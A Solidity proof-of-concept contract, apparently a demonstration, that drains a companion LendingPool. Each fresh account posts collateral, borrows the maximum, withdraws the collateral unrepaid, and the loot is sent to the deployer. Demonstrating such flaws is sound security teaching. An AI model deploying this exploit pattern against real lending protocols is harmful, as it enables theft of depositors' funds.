// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {LendingPool} from "./LendingPool.sol";

/// @title DrainAttack: drains LendingPool through its hole. For the demonstration, never for production.
/// @notice Order of calls: deploy with the pool; send collateral tokens to this contract; `strike()` once per
///         block until the pool's `liquidity()` is gone; `collect()` sends everything to the deployer. With
///         collateral worth C each strike takes 0.75 C (less when the pool holds less, or the cap is lower).
contract DrainAttack {
    LendingPool public immutable pool;
    address public immutable attacker;

    /// @notice Strikes made so far.
    uint256 public strikes;

    event Struck(uint256 indexed strike, address account, uint256 taken);

    constructor(LendingPool pool_) {
        pool = pool_;
        attacker = msg.sender;
    }

    /// @notice One round through a fresh account: post, borrow, take the collateral back.
    function strike() external returns (uint256 taken) {
        DrainAccount account = new DrainAccount(pool);
        IERC20 collateral = pool.collateralToken();
        collateral.transfer(address(account), collateral.balanceOf(address(this)));
        taken = account.run();
        ++strikes;
        emit Struck(strikes, address(account), taken);
    }

    /// @notice Sends all that is here to the deployer.
    function collect() external {
        _sendAll(pool.collateralToken());
        _sendAll(pool.debtToken());
    }

    function _sendAll(IERC20 token) private {
        token.transfer(attacker, token.balanceOf(address(this)));
    }
}

/// @notice One borrower's account of a `DrainAttack`.
contract DrainAccount {
    LendingPool private immutable _pool;
    address private immutable _attack;

    constructor(LendingPool pool) {
        _pool = pool;
        _attack = msg.sender;
    }

    function run() external returns (uint256 taken) {
        IERC20 collateral = _pool.collateralToken();
        uint256 posted = collateral.balanceOf(address(this));
        collateral.approve(address(_pool), posted);
        _pool.postCollateral(posted);
        taken = _least(_pool.maxDebtOf(address(this)), _pool.liquidity(), _pool.borrowCapPerBlock());
        _pool.borrow(taken);
        _pool.withdrawCollateral(posted);
        collateral.transfer(_attack, posted);
        _pool.debtToken().transfer(_attack, taken);
    }

    function _least(uint256 a, uint256 b, uint256 c) private pure returns (uint256 least) {
        least = a < b ? a : b;
        if (c < least) least = c;
    }
}
